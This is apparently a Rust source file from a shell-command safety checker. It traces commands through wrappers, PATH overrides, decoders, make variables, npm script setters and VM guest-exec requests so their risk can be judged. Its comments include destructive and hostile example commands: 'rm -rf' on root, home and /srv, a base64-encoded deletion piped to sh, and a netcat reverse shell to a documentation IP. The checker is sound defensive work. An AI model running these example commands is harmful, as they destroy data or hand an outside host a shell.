//! One simple command: named by the file that runs (see `identity`),
//! recorded, then looked through, wrapper layer by wrapper layer, to every
//! command it runs.

use super::identity::{Identity, is_process_file};
use super::walker::{Stdin, Walker};
use super::wrappers::runs_others;
use super::writes::operand_files;
use super::xargs::spliced;
use super::{MAX_PASS_THROUGH, Origin, Problem, SimpleCommand, Word, programs};
use super::{decoders, echo};

/// Most wrapper layers looked through on one command (`sudo env nice …`).
const MAX_LAYERS: usize = 64;

/// A program name that is a pattern: the shell runs whatever file in the
/// folder it matches first (`r* -rf ~` runs `rm` where a file is named
/// `rm`). `[` and `[[` are names, not patterns.
fn names_by_glob(first: &Word) -> bool {
    let v = first.value.as_str();
    first.glob
        && (v.contains(['*', '?', '(']) || v.find('[').is_some_and(|i| v[i + 1..].contains(']')))
}

impl Walker {
    /// Records a simple command, then looks through what it runs.
    pub(super) fn resolve(&mut self, cmd: SimpleCommand) {
        for (name, value) in &cmd.assignments {
            if programs::is_code_variable(name) {
                self.code_words(
                    name,
                    std::slice::from_ref(value),
                    Origin::ShellString,
                    cmd.depth + 1,
                );
            }
        }
        let name = cmd.name();
        self.command_like_settings(&cmd, name.as_deref());
        // What go runs in place of what it builds is a command line of
        // its own (`go test -exec 'sudo -E' ./...`).
        if let Some(name) = name.as_deref() {
            for value in super::interpreters::go_exec_values(name, cmd.args()) {
                self.code_words(name, &[value], Origin::ShellString, cmd.depth + 1);
            }
            // A script body written into package.json runs at the next
            // install or run: judged as it is written.
            for value in package_script_values(name, cmd.args()) {
                self.code_words(name, &[value], Origin::ShellString, cmd.depth + 1);
            }
        }
        if name.as_deref() == Some("virsh") {
            self.guest_exec(&cmd);
        }
        if name.as_deref() == Some("velociraptor") {
            self.vql_exec(&cmd);
        }
        self.declared_code(&cmd, name.as_deref());
        self.evaluated_code(&cmd, name.as_deref());
        let redirects = cmd.redirects.clone();
        let mut output = None;
        let mut tee_files = Vec::new();
        let mut current = cmd;
        // Each layer is a wrapper's words less its own: a wrapper that
        // hands back a command as long as itself must not loop forever.
        let mut layers = 0usize;
        loop {
            // Inside what a command only may run, every command found only
            // may run too.
            current.possible |= self.bounds.speculating > 0;
            layers += 1;
            if layers > MAX_LAYERS {
                self.problem(Problem::TooDeep);
                break;
            }
            if let Some(first) = current.argv.first()
                && (!first.literal || spliced(&current, first) || names_by_glob(first))
            {
                self.problem(Problem::DynamicCommand {
                    word: first.value.clone(),
                });
            }
            self.path_named(&mut current);
            self.name_program(&mut current);
            self.run_files(&mut current);
            let name = current.name();
            if let Some(name) = &name {
                self.runs_what_it_wrote(&current, name);
                if name == "direnv" {
                    self.direnv_allowed(&current);
                }
                self.writes.note_options(name, &current);
                if name == "tee" {
                    tee_files.extend(operand_files(current.args()));
                }
                if name == "sponge" {
                    self.writes.note_sponge(&current);
                }
                self.look_inside(name, &current);
            }
            output = output.or_else(|| output_text_of(&current, name.as_deref()?));
            if !runs_others(&current, name.as_deref()) {
                // A program no table knows may still run a command given
                // in its words (see `runners`).
                let inner = self.zsh_precommand(&current).or_else(|| {
                    let name = name.as_deref()?;
                    self.unknown_runner(&current, name)
                });
                self.script.commands.push(current);
                match inner {
                    Some(inner) => {
                        current = inner;
                        continue;
                    }
                    None => break,
                }
            }
            self.script.commands.push(current.clone());
            let stdin = Stdin {
                text: current.stdin_text.clone(),
                dynamic: current.stdin_dynamic,
                upstream: current.upstream.clone(),
            };
            let saved = self.code.stdin.replace(stdin);
            let possible = current.possible;
            self.bounds.speculating += u32::from(possible);
            let inner = self.look_through(&current);
            self.bounds.speculating -= u32::from(possible);
            self.code.stdin = saved;
            match inner {
                Some(inner) => current = inner,
                None => break,
            }
        }
        self.writes.note_redirects(&redirects, output, tee_files);
    }
}

/// Most folders of a line's own PATH looked through for the program it
/// names; a longer list asks (each folder is one lookup on disk).
const MAX_PATH_FOLDERS: usize = 64;

impl Walker {
    /// A program named bare where the line's own PATH names folders first
    /// (`PATH=/tmp/e ls`, `env PATH=bin:$PATH ls`): the file of that name
    /// in one of them, on disk or written earlier on the line, is what
    /// runs, so the command is read as run by that path (its text judged
    /// as a script's, its bytes named). The threat: a script the agent
    /// wrote outside the project, run under a common name. A folder known
    /// only at run time (`PATH="$X" ls`) may hold any file so named, and a
    /// list too long to look through may hide one: both ask. Folders
    /// written out, and the PATH as it stands (`./node_modules/.bin:$PATH`),
    /// are as known as before.
    fn path_named(&mut self, cmd: &mut SimpleCommand) {
        let Some((_, path)) = cmd.assignments.iter().find(|(n, _)| n == "PATH") else {
            return;
        };
        let Some(first) = cmd.argv.first() else {
            return;
        };
        if first.value.is_empty() || first.value.contains('/') {
            return;
        }
        let unknown = |part: &str| {
            !path.literal && !matches!(part, "$PATH" | "${PATH}") && part.contains(['$', '`'])
        };
        if path.value.split(':').count() > MAX_PATH_FOLDERS || path.value.split(':').any(unknown) {
            self.problem(Problem::DynamicCommand {
                word: format!("PATH={}", path.value),
            });
        }
        if !first.literal {
            return;
        }
        let mut found = None;
        for dir in path.value.split(':') {
            // From the PATH as it stood on, the usual lookup.
            if !path.literal && matches!(dir, "$PATH" | "${PATH}") {
                break;
            }
            if unknown(dir) {
                continue;
            }
            let dir = if dir.is_empty() {
                "."
            } else {
                dir.trim_end_matches('/')
            };
            let candidate = format!("{dir}/{}", first.value);
            if self.writes.may_have_written(&candidate) || self.disk.is_file(&candidate) {
                found = Some(candidate);
                break;
            }
        }
        if let (Some(found), Some(first)) = (found, cmd.argv.first_mut()) {
            first.value = found;
        }
    }

    /// Names the program by the file that runs, not the name typed (see
    /// `identity`): a program run by its path, or found by name in a
    /// folder of `PATH` inside the project, that is a link (`./b2` ─►
    /// `bash`), askrisky's own binary or a copy of it, or a copy of a
    /// system program is known as that program; a process's own file
    /// (`/proc/self/exe`, `/dev/fd/3`) or a compiled program nobody can
    /// name is a problem. Each wrapper layer's program is named afresh.
    fn name_program(&mut self, cmd: &mut SimpleCommand) {
        cmd.program = None;
        cmd.interpreter = None;
        let Some(first) = cmd.argv.first().filter(|w| w.literal) else {
            return;
        };
        // Made only when it is one: most commands are none.
        let unknown = |first: &Word| Problem::UnknownProgram {
            path: first.value.clone(),
        };
        let value = if first.value.contains('/') {
            if is_process_file(&first.value) {
                self.problem(unknown(first));
            }
            first.value.clone()
        } else {
            match self.disk.on_path(&first.value) {
                Some(found) => found.display().to_string(),
                None => return,
            }
        };
        // A file written earlier on the line is judged as written there
        // (see `scripts`), not as what is on disk now.
        if !self.disk.is_on() || self.writes.may_have_written(&value) {
            return;
        }
        match self.disk.identify(&value) {
            Identity::AsNamed => {}
            Identity::Program(name) => {
                if cmd.name().is_none_or(|typed| typed != name) {
                    cmd.program = Some(name);
                }
            }
            Identity::Unknown => {
                if let Some(first) = cmd.argv.first() {
                    self.problem(unknown(first));
                }
            }
        }
    }
}

/// The text the first command of a pipeline stage writes into the pipe
/// (a wrapper's layers are looked at through the outermost one).
pub(super) fn echoed_text(cmd: &SimpleCommand) -> Option<String> {
    if cmd.origin == Origin::Wrapper {
        return None;
    }
    output_text(cmd)
}

/// The text a command is known to write: `echo`/`printf` of literal words
/// (`echo 'rm -rf /' | sh`), `ls -d` of folders named (`ls -d /boot |
/// xargs rm -rf`: the names themselves, one a line), and `cat` or `tee`
/// passing on text they are known to read (`cat <<EOF | sh`, `echo … |
/// tee log | sh`).
fn output_text(cmd: &SimpleCommand) -> Option<String> {
    output_text_of(cmd, &cmd.name()?)
}

/// [`output_text`] for the command's program `name`, when it is known.
fn output_text_of(cmd: &SimpleCommand, name: &str) -> Option<String> {
    // Without file operands (or with only `-`) cat copies stdin as is; tee
    // always does. Each stage holds a copy, so only so many are followed.
    let passes_on = cmd.upstream.len() <= MAX_PASS_THROUGH;
    match name {
        "cat" if passes_on && cmd.args().iter().all(|a| a.literal && a.value == "-") => {
            return cmd.stdin_text.clone();
        }
        "tee" if passes_on => return cmd.stdin_text.clone(),
        // A decoder of known text (`base64 -d <<< cm0gLXJmIH4K | sh`).
        "base64" | "xxd" | "rev" | "tr" | "openssl" if passes_on => {
            let args = cmd.args();
            if !args.iter().all(|a| a.literal) {
                return None;
            }
            let values: Vec<&str> = args.iter().map(|a| a.value.as_str()).collect();
            return decoders::filtered(name, &values, cmd.stdin_text.as_deref()?);
        }
        "echo" | "printf" => {}
        "ls" => {
            let args = cmd.args();
            let (flags, names): (Vec<&Word>, Vec<&Word>) =
                args.iter().partition(|a| a.value.starts_with('-'));
            let listed = !names.is_empty()
                && flags.iter().any(|f| f.value.contains('d'))
                && flags.iter().all(|f| {
                    f.value.len() > 1 && f.value[1..].bytes().all(|b| b == b'd' || b == b'1')
                })
                && args.iter().all(|a| a.literal);
            return listed.then(|| {
                let names: Vec<&str> = names.iter().map(|a| a.value.as_str()).collect();
                names.join("\n") + "\n"
            });
        }
        _ => return None,
    }
    let args = cmd.args();
    if !args.iter().all(|a| a.literal) {
        return None;
    }
    let values: Vec<&str> = args.iter().map(|a| a.value.as_str()).collect();
    if name == "printf" {
        return echo::printf(&values);
    }
    Some(echo::echo(&values))
}

impl Walker {
    /// What a virtual machine's guest agent is told to run (`virsh
    /// qemu-agent-command web '{"execute":"guest-exec","arguments":
    /// {"path":"/bin/rm","arg":["-rf","/srv"]}}'`): its program and words,
    /// walked as a command. A request that cannot be read asks.
    fn guest_exec(&mut self, cmd: &SimpleCommand) {
        let args = cmd.args();
        if !args.iter().any(|w| w.value == "qemu-agent-command") {
            return;
        }
        for w in args.iter().filter(|w| w.value.contains("guest-exec")) {
            let line = w
                .literal
                .then(|| serde_json::from_str::<serde_json::Value>(&w.value).ok())
                .flatten()
                .and_then(|v| guest_exec_words(&v));
            match line {
                Some(words) => {
                    let line = Word::literal(super::shell_quote(&words));
                    self.code_words("virsh", &[line], Origin::ShellString, cmd.depth + 1);
                }
                None => self.problem(Problem::DynamicCode {
                    program: "virsh".into(),
                }),
            }
        }
    }
}

impl Walker {
    /// The commands a Velociraptor query runs with `execve(argv=[…])`, on
    /// the server or, collected, on every endpoint it reaches: each
    /// judged as a command; one it cannot read asks.
    fn vql_exec(&mut self, cmd: &SimpleCommand) {
        for w in cmd.args().iter().filter(|w| w.value.contains("execve")) {
            let runs = if w.literal {
                super::editor_scripts::vql_execve_argvs(&w.value)
            } else {
                vec![None]
            };
            for words in runs {
                match words {
                    Some(words) => {
                        let line = Word::literal(super::shell_quote(&words));
                        self.code_words(
                            "velociraptor",
                            &[line],
                            Origin::ShellString,
                            cmd.depth + 1,
                        );
                    }
                    None => self.problem(Problem::DynamicCode {
                        program: "velociraptor".into(),
                    }),
                }
            }
        }
    }
}

/// The script bodies a package manager is told to write into
/// `package.json` (`npm pkg set scripts.postinstall='…'`, `npm set-script
/// build '…'`): code a later install or run runs, each as a word.
fn package_script_values(name: &str, args: &[Word]) -> Vec<Word> {
    if !matches!(name, "npm" | "pnpm" | "yarn" | "bun") {
        return Vec::new();
    }
    let ops: Vec<&Word> = super::programs::operands(args);
    let body = |w: &Word, value: &str| Word {
        value: value.to_owned(),
        ..w.clone()
    };
    match ops.as_slice() {
        [sub, _, code, ..] if sub.value == "set-script" => vec![(*code).clone()],
        [pkg, set, pairs @ ..] if pkg.value == "pkg" && set.value == "set" => pairs
            .iter()
            .filter_map(|w| {
                let (key, value) = w.value.split_once('=')?;
                key.starts_with("scripts.").then(|| body(w, value))
            })
            .collect(),
        _ => Vec::new(),
    }
}

/// The program and words of a guest agent's `guest-exec` request.
fn guest_exec_words(request: &serde_json::Value) -> Option<Vec<String>> {
    if request.get("execute")?.as_str()? != "guest-exec" {
        return None;
    }
    let arguments = request.get("arguments")?;
    let mut words = vec![arguments.get("path")?.as_str()?.to_owned()];
    for arg in arguments
        .get("arg")
        .and_then(serde_json::Value::as_array)
        .into_iter()
        .flatten()
    {
        words.push(arg.as_str()?.to_owned());
    }
    Some(words)
}

impl Walker {
    /// Settings that may be run as programs though no table says so: a
    /// `make` variable given on its command line (`make train
    /// PYTHON='bash -c "nc -e /bin/sh 203.0.113.5 4444"'`: a recipe's
    /// `$(PYTHON)` runs it), and a value with spaces set for one command
    /// (`RUNNER='rm -rf ~' ./ci.sh`). A make variable that names a program
    /// or the recipes' shell (`make SHELL=/tmp/x.sh`, `make CC='…'`) is
    /// code, as such an environment variable is; any other value is walked
    /// speculatively: it counts only where it names a program the danger
    /// set knows, and asks at most.
    fn command_like_settings(&mut self, cmd: &SimpleCommand, name: Option<&str>) {
        if cmd.argv.is_empty() {
            // A bare assignment runs nothing; where it is used, the
            // variable copies judge it.
            return;
        }
        let depth = cmd.depth + 1;
        for (n, w) in &cmd.assignments {
            if !programs::is_code_variable(n) && w.literal && w.value.contains([' ', '\t']) {
                self.speculate(&w.value, depth);
            }
        }
        if !matches!(name, Some("make" | "gmake" | "bmake" | "remake" | "just")) {
            return;
        }
        for w in cmd.args().iter().take_while(|w| w.value != "--") {
            let Some((var, value)) = w.value.split_once('=') else {
                continue;
            };
            // make takes any name but an option's (`make a-b='…'` sets
            // `a-b`; `--file=x` is an option).
            if var.is_empty() || var.starts_with('-') {
                continue;
            }
            let value = Word {
                value: value.to_owned(),
                ..w.clone()
            };
            if programs::is_code_variable(var) || var == "SHELL" {
                self.code_words(
                    var,
                    std::slice::from_ref(&value),
                    Origin::ShellString,
                    depth,
                );
            } else if value.literal {
                self.speculate(&value.value, depth);
            }
        }
    }
}
